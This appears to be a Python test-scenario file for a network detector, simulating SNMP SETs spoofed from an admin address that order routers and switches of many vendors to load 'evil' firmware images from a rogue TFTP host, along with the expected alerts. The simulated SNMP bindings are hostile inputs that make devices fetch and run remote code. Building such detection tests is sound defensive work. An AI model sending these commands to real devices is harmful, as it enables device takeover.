"""BW04: SNMP SETs from an admin host's address, which a spoofer borrowed: the server they name gives them away."""

from __future__ import annotations

from ipaddress import IPv4Address

from bootwarden.scenarios import bw04_snmp_image_copy
from bootwarden.scenarios.bw04_more_brands import HP_OLD
from bootwarden.scenarios.model import Expect, Notice, scenario
from bootwarden.scenarios.sites import ADMIN, DEVICE, HQ, ROGUE
from bootwarden.scenarios.snmp_rows import IMAGES, images, orders, raised, told
from bootwarden.traffic import snmp
from bootwarden.traffic.wire import Wire

FLASH = {2: 1, 3: 1, 4: IPv4Address(ROGUE), 5: "evil.bin", 6: "evil.bin", 11: 4}
SPOOFED_IMAGES: dict[str, list[snmp.Binding]] = {
    DEVICE: snmp.row(snmp.FLASH_COPY, 77, FLASH),
    "10.0.1.3": snmp.row(snmp.FLASH_COPY, 78, {2: 2, 13: 1, 14: IPv4Address(ROGUE).packed, 5: "evil.bin", 11: 4}),
    "10.0.1.7": [("1.3.6.1.4.1.9.9.725.1.2.1.0", f"tftp://{ROGUE}/evil.tar")],
    **{device: bindings for device, (_, bindings) in bw04_snmp_image_copy.VENDORS.items()},
}


@scenario(
    "BW04",
    "malicious",
    raises=[
        ("BW04", 0, "10.0.9.10", "10.0.1.1"),
        ("BW04", 0, "10.0.9.10", "10.0.1.3"),
        ("BW04", 1, "10.0.9.10", "10.0.1.2"),
        ("BW04", 1542006080, "10.0.9.10", "10.0.1.15"),
        ("BW04", 4, "10.0.9.10", "10.0.1.11"),
        ("BW04", 1542006038, "10.0.9.10", "10.0.1.12"),
        ("BW04", 5, "10.0.9.10", "10.0.1.13"),
        ("BW04", 6, "10.0.9.10", "10.0.1.17"),
        ("BW04", 8, "10.0.9.10", "10.0.1.18"),
        ("BW04", 9, "10.0.9.10", "10.0.1.7"),
    ],
    raises_with_site=[
        ("BW04", 1542134040, "10.0.9.10", "10.0.1.1"),
        ("BW04", 1542134040, "10.0.9.10", "10.0.1.3"),
        ("BW04", 1542134041, "10.0.9.10", "10.0.1.2"),
        ("BW04", 1542134044, "10.0.9.10", "10.0.1.11"),
        ("BW04", 1542135038, "10.0.9.10", "10.0.1.12"),
        ("BW04", 1542134046, "10.0.9.10", "10.0.1.17"),
        ("BW04", 1542134048, "10.0.9.10", "10.0.1.18"),
        ("BW04", 1542134049, "10.0.9.10", "10.0.1.7"),
        ("BW04", 1542134045, "10.0.9.10", "10.0.1.13"),
        ("BW04", 1542135080, "10.0.9.10", "10.0.1.15"),
    ],
    site=HQ,
    with_site=Expect(
        notices=(
            Notice("SNMP_Image_Copy", "10.0.1.1", "10.0.6.66", "evil.bin"),
            Notice("SNMP_Image_Copy", "10.0.1.3", "10.0.6.66", "evil.bin"),
            Notice("SNMP_Image_Copy", "10.0.1.7", "10.0.6.66", "evil.tar"),
            Notice("SNMP_Image_Copy", "10.0.1.2", "10.0.6.66", "c2600-evil.bin"),
            Notice("SNMP_Image_Copy", "10.0.1.11", "10.0.6.66", "evil.cc"),
            Notice("SNMP_Image_Copy", "10.0.1.12", "10.0.6.66", "evil.ipe"),
            Notice("SNMP_Image_Copy", "10.0.1.13", "10.0.6.66", "image_evil.bin"),
            Notice("SNMP_Image_Copy", "10.0.1.15", "10.0.6.66", "evil.xos"),
            Notice("SNMP_Image_Copy", "10.0.1.17", "10.0.6.66", "KB_evil.swi"),
            Notice("SNMP_Image_Copy", "10.0.1.18", "10.0.6.66", "n5000-evil.bin"),
        )
    ),
)
def bw04_spoofed_vendors(wire: Wire) -> None:
    """From an admin's spoofed address, devices of every vendor are told to load an image."""
    orders(wire, ADMIN, SPOOFED_IMAGES, answered=False)


@scenario(
    "BW04",
    "malicious",
    raises=raised(
        ADMIN,
        {
            "10.0.1.31": ("BW04", 1542006073),
            "10.0.1.32": ("BW04", 1542006025),
            "10.0.1.35": ("BW04", 1542006010),
            "10.0.1.36": ("BW04", 7),
        },
    ),
    raises_with_site=raised(
        ADMIN,
        {
            "10.0.1.31": ("BW04", 1542135073),
            "10.0.1.32": ("BW04", 1542135025),
            "10.0.1.35": ("BW04", 1542135010),
            "10.0.1.36": ("BW04", 1542134047),
        },
    ),
    site=HQ,
    with_site=Expect(told("SNMP_Image_Copy", ROGUE, IMAGES | {"10.0.1.36": "KB_old.swi"})),
)
def bw04_spoofed_brands(wire: Wire) -> None:
    """The same from an admin's spoofed address, and an HPE switch of old whose server comes with its port."""
    orders(wire, ADMIN, images(ROGUE) | {"10.0.1.36": HP_OLD}, answered=False)
